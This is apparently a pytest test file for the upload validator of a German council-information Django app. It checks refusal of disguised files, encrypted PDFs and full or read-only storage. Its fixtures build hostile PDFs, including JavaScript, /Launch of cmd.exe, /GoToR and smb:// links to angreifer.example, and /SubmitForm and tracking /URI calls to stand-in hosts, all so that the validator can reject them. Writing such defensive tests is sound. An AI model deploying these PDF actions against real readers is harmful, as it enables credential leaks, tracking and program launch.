"""Uploads of Anlagen: the type by content, refused kinds with their message, and a storage that cannot write."""

import errno
import io
import os

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from pypdf import PdfReader

from tests.factories import (
    MINI_JPEG,
    MINI_PDF,
    MINI_PNG,
    AnlageFactory,
    VorlageFactory,
    pdf_bauen,
    zip_bauen,
)
from tests.test_admin import admin_url, formulardaten, neue_zeile
from vorlagen.dateipruefung import datei_pruefen
from vorlagen.models import Anlage, Vorlage

pytestmark = pytest.mark.django_db

ABGELEHNT = {
    "leer": ("leer.pdf", b"", "Die Datei ist leer."),
    "text als pdf": ("bericht.pdf", b"Nur Text, kein PDF.\n", "passt nicht zu ihrem Inhalt (Textdatei)"),
    "png als pdf": ("bild.pdf", MINI_PNG, "passt nicht zu ihrem Inhalt (PNG-Bild)"),
    "zip": ("akten.pdf", zip_bauen({"a.pdf": MINI_PDF}), "Archive (ZIP-Archiv) werden nicht angenommen"),
    "zip mit endung": ("akten.zip", zip_bauen({"a.pdf": MINI_PDF}), "Archive (ZIP-Archiv)"),
    "gzip": ("akten.pdf", b"\x1f\x8b\x08\x00\x00\x00\x00\x00", "Archive (gzip-Archiv)"),
    "rar": ("akten.pdf", b"Rar!\x1a\x07\x01\x00", "Archive (RAR-Archiv)"),
    "7z": ("akten.pdf", b"7z\xbc\xaf\x27\x1c\x00\x04", "Archive (7z-Archiv)"),
    "tar": ("akten.pdf", b"a.txt".ljust(257, b"\0") + b"ustar\x0000" + b"\0" * 250, "Archive (tar-Archiv)"),
    "docx": (
        "antrag.pdf",
        zip_bauen({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
        "Office-Dokumente (Word, Excel, PowerPoint) werden nicht angenommen",
    ),
    "doc": ("antrag.pdf", bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 504, "Office-Dokument"),
    "programm": ("setup.pdf", b"MZ\x90\x00\x03" + b"\0" * 100, "ausführbares Programm"),
    "verschlüsselt": ("gutachten.pdf", pdf_bauen(kennwort="geheim"), "Die PDF-Datei ist verschlüsselt"),
    "kaputt": ("kaputt.pdf", b"%PDF-1.4\nkaputt", "Die PDF-Datei ist beschädigt"),
    "javascript": ("skript.pdf", pdf_bauen(javascript="app.alert('x')"), "enthält JavaScript"),
    "openaction js": ("oeffnen.pdf", pdf_bauen(oeffnen_javascript="app.launchURL('x')"), "enthält JavaScript"),
    "launch": ("starten.pdf", pdf_bauen(starten="cmd.exe"), "enthält eine Startaktion (/Launch)"),
    "eingebettet": ("anhang.pdf", pdf_bauen(anhang=("virus.exe", b"MZ")), "enthält eingebettete Dateien"),
    "js getarnt": (
        "getarnt.pdf",
        pdf_bauen(javascript="app.alert(1)").replace(b"/JavaScript", b"/Java#53cript"),
        "enthält JavaScript",
    ),
}


@pytest.mark.parametrize("fall", ABGELEHNT, ids=list(ABGELEHNT))
def test_hostile_upload_is_refused_with_its_reason(fall):
    name, inhalt, meldung = ABGELEHNT[fall]
    anlage = Anlage(vorlage=VorlageFactory(), titel="Anlage", datei=ContentFile(inhalt, name=name))

    with pytest.raises(ValidationError) as fehler:
        anlage.full_clean()

    assert meldung in " ".join(fehler.value.message_dict["datei"])


@pytest.mark.parametrize(
    ("name", "inhalt", "mime_typ"),
    [
        ("bericht.pdf", MINI_PDF, "application/pdf"),
        ("mehrseitig.PDF", pdf_bauen(seiten=3, text="Bericht"), "application/pdf"),
        ("lageplan.png", MINI_PNG, "image/png"),
        ("foto.jpg", MINI_JPEG, "image/jpeg"),
        ("foto.jpeg", MINI_JPEG, "image/jpeg"),
        ("notiz.txt", "Grüße aus Stuttgart\n".encode(), "text/plain"),
        ("tabelle.csv", b"Bezirk;Anzahl\nMitte;3\n", "text/csv"),
    ],
)
def test_accepted_kinds_are_stored_with_the_type_found_in_the_content(name, inhalt, mime_typ):
    anlage = Anlage(vorlage=VorlageFactory(), titel="Anlage", datei=ContentFile(inhalt, name=name))

    anlage.full_clean()
    anlage.save()

    assert (anlage.dateiname, anlage.mime_typ, anlage.groesse) == (name, mime_typ, len(inhalt))


def test_type_comes_from_the_content_not_the_name():
    # A browser may send any Content-Type; the name says PNG, the content says PDF: refused, not stored as image.
    with pytest.raises(ValidationError, match="passt nicht zu ihrem Inhalt"):
        datei_pruefen(SimpleUploadedFile("plan.png", MINI_PDF, content_type="image/png"))


def test_oversize_upload_is_refused_by_the_configured_limit(settings):
    settings.RATSINFO_ANLAGE_MAX_MB = 0.001  # about 1 KB
    inhalt = pdf_bauen(seiten=40)
    assert len(inhalt) > 1100
    anlage = Anlage(vorlage=VorlageFactory(), titel="Groß", datei=ContentFile(inhalt, name="gross.pdf"))

    with pytest.raises(ValidationError) as fehler:
        anlage.full_clean()

    assert "erlaubt sind höchstens 0,0 MB" in fehler.value.message_dict["datei"][0]


def test_large_upload_on_disk_is_checked_like_one_in_memory():
    # Uploads over FILE_UPLOAD_MAX_MEMORY_SIZE arrive as a temporary file, not in memory.
    datei = TemporaryUploadedFile("gross.pdf", "application/pdf", len(MINI_PDF), None)
    datei.write(MINI_PDF)
    datei.seek(0)
    anlage = Anlage(vorlage=VorlageFactory(), titel="Groß", datei=datei)

    anlage.full_clean()
    anlage.save()

    assert anlage.datei.read() == MINI_PDF


def test_check_leaves_the_file_at_its_start_for_the_storage():
    datei = ContentFile(MINI_PDF, name="a.pdf")

    datei_pruefen(datei)

    assert datei.read() == MINI_PDF


def test_stored_anlage_is_not_checked_again_on_later_saves():
    # Only a new upload is checked: an Anlage imported before the check existed can still be retitled.
    anlage = AnlageFactory(datei=ContentFile(b"%PDF-1.4 alt", name="alt.pdf"))
    anlage = Anlage.objects.get(pk=anlage.pk)
    anlage.titel = "Neuer Titel"

    anlage.full_clean()


# In the admin -------------------------------------------------------------------------------------------------------


def _mit_neuer_anlage(client, vorlage, *dateien):
    url = admin_url(Vorlage, "change", vorlage.pk)
    daten = formulardaten(client.get(url))
    for nummer, datei in enumerate(dateien, start=1):
        neue_zeile(daten, "anlagen", titel=f"Neu {nummer}", datei=datei, reihenfolge=str(nummer + 1))
    return url, daten


def test_admin_shows_the_reason_at_the_file(sachbearbeitung_client):
    vorlage = VorlageFactory()
    url, daten = _mit_neuer_anlage(
        sachbearbeitung_client, vorlage, SimpleUploadedFile("skript.pdf", pdf_bauen(javascript="app.alert(1)"))
    )

    antwort = sachbearbeitung_client.post(url, daten)

    assert antwort.status_code == 200
    assert "enthält JavaScript" in antwort.content.decode()
    assert not vorlage.anlagen.exists()


def test_admin_accepts_a_good_pdf(sachbearbeitung_client, speicherart):
    vorlage = VorlageFactory()
    url, daten = _mit_neuer_anlage(sachbearbeitung_client, vorlage, SimpleUploadedFile("bericht.pdf", MINI_PDF))

    assert sachbearbeitung_client.post(url, daten).status_code == 302

    anlage = vorlage.anlagen.get()
    assert anlage.mime_typ == "application/pdf"
    with anlage.datei.open("rb") as gespeichert:
        assert gespeichert.read() == MINI_PDF


# Storage failure ------------------------------------------------------------------------------------------------------


def _dateien(storage):
    wurzel = storage.location
    return sorted(
        os.path.relpath(os.path.join(ordner, name), wurzel) for ordner, _, namen in os.walk(wurzel) for name in namen
    )


def speicherfehler_im_formular(antwort):
    """The storage failure as the admin shows it: an error of the whole form, in the page."""
    fehler = " ".join(antwort.context["adminform"].form.non_field_errors())
    assert fehler and fehler.split(".")[0] in antwort.content.decode()
    return fehler


def _voller_datentraeger(storage, monkeypatch, *, nach=0):
    """The storage writes ``nach`` files, then fails as a full disk does."""
    echt = storage._save
    geschrieben = []

    def speichern(name, content):
        if len(geschrieben) >= nach:
            raise OSError(errno.ENOSPC, "No space left on device")
        geschrieben.append(name)
        return echt(name, content)

    monkeypatch.setattr(storage, "_save", speichern)


def test_full_disk_in_the_admin_gives_a_message_and_keeps_vorlage_and_earlier_anlagen(
    sachbearbeitung_client, monkeypatch
):
    frueher = AnlageFactory(titel="Frühere Anlage")
    vorlage = frueher.vorlage
    storage = Anlage._meta.get_field("datei").storage
    vorher = _dateien(storage)
    url, daten = _mit_neuer_anlage(
        sachbearbeitung_client,
        vorlage,
        SimpleUploadedFile("erste.pdf", MINI_PDF),
        SimpleUploadedFile("zweite.pdf", MINI_PDF),
    )
    daten["titel"] = "Geänderter Titel"
    _voller_datentraeger(storage, monkeypatch, nach=1)

    antwort = sachbearbeitung_client.post(url, daten)

    # The form comes back with the reason and with what the clerk typed, nothing lost to a redirect.
    assert antwort.status_code == 200
    fehler = speicherfehler_im_formular(antwort)
    assert "Datenträger voll" in fehler and "nichts gespeichert" in fehler
    assert antwort.context["adminform"].form["titel"].value() == "Geänderter Titel"
    vorlage.refresh_from_db()
    assert vorlage.titel != "Geänderter Titel"
    assert list(vorlage.anlagen.values_list("titel", flat=True)) == ["Frühere Anlage"]
    # The first new file had been written before the disk was full; it is gone again, the earlier one is kept.
    assert _dateien(storage) == vorher
    assert storage.exists(frueher.datei.name)


def test_full_disk_when_adding_a_vorlage_saves_nothing(sachbearbeitung_client, monkeypatch):
    from tests.factories import DienststelleFactory

    dienststelle = DienststelleFactory()
    url = admin_url(Vorlage, "add")
    daten = formulardaten(sachbearbeitung_client.get(url))
    daten.update(
        art="beschlussvorlage", nummer="7", jahr="2026", datum="2026-11-20", titel="Neu", dienststelle=dienststelle.pk
    )
    neue_zeile(daten, "anlagen", titel="Anlage", datei=SimpleUploadedFile("a.pdf", MINI_PDF), reihenfolge="1")
    storage = Anlage._meta.get_field("datei").storage
    _voller_datentraeger(storage, monkeypatch)

    antwort = sachbearbeitung_client.post(url, daten)

    assert antwort.status_code == 200
    assert "Datenträger voll" in speicherfehler_im_formular(antwort)
    assert antwort.context["adminform"].form["titel"].value() == "Neu"
    assert not Vorlage.objects.exists()
    assert not Anlage.objects.exists()
    assert _dateien(storage) == []


def test_half_written_file_is_removed_when_the_disk_fills_up(monkeypatch):
    storage = Anlage._meta.get_field("datei").storage

    class VollNachDemErstenBlock(ContentFile):
        def chunks(self, chunk_size=None):
            yield b"%PDF-1.7 halb"
            raise OSError(errno.ENOSPC, "No space left on device")

    with pytest.raises(OSError):
        storage.save("vorlagen/halb.pdf", VollNachDemErstenBlock(b"x"))

    assert not storage.exists("vorlagen/halb.pdf")


def anlagen_speichern_in(monkeypatch, ordner):
    """Point the Anlagen storage at ``ordner`` for one test (its location is a cached property)."""
    storage = Anlage._meta.get_field("datei").storage
    monkeypatch.setitem(storage.__dict__, "base_location", str(ordner))
    monkeypatch.setitem(storage.__dict__, "location", str(ordner))


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write into a read-only folder")
def test_read_only_storage_in_the_admin_gives_a_message(sachbearbeitung_client, monkeypatch, tmp_path):
    nur_lesen = tmp_path / "nur-lesen"
    nur_lesen.mkdir()
    nur_lesen.chmod(0o555)
    anlagen_speichern_in(monkeypatch, nur_lesen)
    vorlage = VorlageFactory()
    url, daten = _mit_neuer_anlage(sachbearbeitung_client, vorlage, SimpleUploadedFile("a.pdf", MINI_PDF))

    antwort = sachbearbeitung_client.post(url, daten)

    assert "nicht beschreibbar" in speicherfehler_im_formular(antwort)
    assert not vorlage.anlagen.exists()


def test_storage_folder_that_is_a_file_gives_a_message(sachbearbeitung_client, monkeypatch, tmp_path):
    # A real failure of the file system without root's exemptions: the storage's folder is a plain file.
    kein_ordner = tmp_path / "kein-ordner"
    kein_ordner.write_text("x")
    anlagen_speichern_in(monkeypatch, kein_ordner)
    vorlage = VorlageFactory()
    url, daten = _mit_neuer_anlage(sachbearbeitung_client, vorlage, SimpleUploadedFile("a.pdf", MINI_PDF))

    antwort = sachbearbeitung_client.post(url, daten)

    assert antwort.status_code == 200
    assert "Die Datei konnte nicht gespeichert werden" in speicherfehler_im_formular(antwort)
    assert not vorlage.anlagen.exists()


# Actions that open, send or launch something ----------------------------------------------------------------------

UNC = "\\\\\\\\angreifer.example\\\\freigabe\\\\bericht.pdf"


def _bericht():
    from tests import pdfs

    return pdfs.text_pdf("Bericht zur Integrationspolitik")


def _aktionen():
    from tests import pdfs

    a = pdfs.aktion
    return {
        "openaction gotor unc": (pdfs.mit_oeffnen_aktion(_bericht(), a("/GoToR", F=UNC)), "(/GoToR)"),
        "openaction uri": (
            pdfs.mit_oeffnen_aktion(_bericht(), a("/URI", URI="https://tracker.example/pixel")),
            "ohne Klick eine Adresse aufruft (/URI „https://tracker.example/pixel“)",
        ),
        "openaction submitform": (
            pdfs.mit_oeffnen_aktion(_bericht(), a("/SubmitForm", F="https://sammler.example/")),
            "Formulardaten an einen Server sendet (/SubmitForm)",
        ),
        "openaction importdata": (
            pdfs.mit_oeffnen_aktion(_bericht(), a("/ImportData", F=UNC)),
            "Daten aus einer anderen Datei lädt (/ImportData)",
        ),
        "openaction launch": (pdfs.mit_oeffnen_aktion(_bericht(), a("/Launch", F="cmd.exe")), "(/Launch)"),
        "openaction gotoe": (pdfs.mit_oeffnen_aktion(_bericht(), a("/GoToE")), "(/GoToE)"),
        "seite aa uri": (
            pdfs.mit_zusatzaktion(_bericht(), a("/URI", URI="https://tracker.example/")),
            "ohne Klick eine Adresse aufruft",
        ),
        "dokument aa gotor": (pdfs.mit_zusatzaktion(_bericht(), a("/GoToR", F=UNC), ebene="dokument"), "(/GoToR)"),
        "link launch": (pdfs.mit_link(_bericht(), a("/Launch", F="C:\\Windows\\System32\\calc.exe")), "(/Launch)"),
        "link gotor": (pdfs.mit_link(_bericht(), a("/GoToR", F=UNC)), "(/GoToR)"),
        "link javascript": (pdfs.mit_link(_bericht(), a("/JavaScript", JS="app.alert(1)")), "JavaScript"),
        "link datei": (
            pdfs.mit_link(_bericht(), a("/URI", URI="file://angreifer.example/freigabe/x.pdf")),
            "keine Internet- oder E-Mail-Adresse ist (/URI)",
        ),
        "link smb": (pdfs.mit_link(_bericht(), a("/URI", URI="smb://angreifer.example/x")), "(/URI)"),
    }


AKTIONEN = [
    "openaction gotor unc",
    "openaction uri",
    "openaction submitform",
    "openaction importdata",
    "openaction launch",
    "openaction gotoe",
    "seite aa uri",
    "dokument aa gotor",
    "link launch",
    "link gotor",
    "link javascript",
    "link datei",
    "link smb",
]


@pytest.fixture(scope="module")
def aktionen():
    return _aktionen()


@pytest.mark.parametrize("fall", AKTIONEN)
def test_pdf_with_an_action_that_opens_sends_or_launches_is_refused_with_its_reason(aktionen, fall):
    inhalt, meldung = aktionen[fall]
    anlage = Anlage(vorlage=VorlageFactory(), titel="Anlage", datei=ContentFile(inhalt, name="bericht.pdf"))

    with pytest.raises(ValidationError) as fehler:
        anlage.full_clean()

    text = " ".join(fehler.value.message_dict["datei"])
    assert "Die PDF-Datei enthält" in text and meldung in text
    assert "nicht angenommen" in text


def test_a_uri_action_shared_by_a_link_and_the_open_action_is_refused():
    # The same action object, once clicked, once run on opening: the second use decides.
    from pypdf import PdfWriter
    from pypdf.generic import NameObject

    from tests import pdfs

    mit_link = pdfs.mit_link(_bericht(), pdfs.aktion("/URI", URI="https://tracker.example/"))
    schreiber = PdfWriter(clone_from=io.BytesIO(mit_link))
    link = schreiber.pages[0]["/Annots"][-1].get_object()
    schreiber._root_object[NameObject("/OpenAction")] = link.raw_get("/A")
    ausgabe = io.BytesIO()
    schreiber.write(ausgabe)

    with pytest.raises(ValidationError, match="ohne Klick eine Adresse aufruft"):
        datei_pruefen(ContentFile(ausgabe.getvalue(), name="bericht.pdf"))


def test_ordinary_web_links_in_the_text_are_accepted():
    # Papers cite their sources: WeasyPrint writes real link annotations with /URI actions for these.
    from tests import pdfs

    inhalt = pdfs.weasyprint(
        "<p>Quelle: <a href='https://www.stuttgart.de/integration'>Integrationspolitik</a>, "
        "Kontakt: <a href='mailto:integration@stuttgart.de'>E-Mail</a></p>"
    )
    links = [a.get_object()["/A"] for a in PdfReader(io.BytesIO(inhalt)).pages[0]["/Annots"]]
    assert {str(link["/URI"]) for link in links} == {
        "https://www.stuttgart.de/integration",
        "mailto:integration@stuttgart.de",
    }
    anlage = Anlage(vorlage=VorlageFactory(), titel="Bericht", datei=ContentFile(inhalt, name="bericht.pdf"))

    anlage.full_clean()

    assert anlage.mime_typ == "application/pdf"
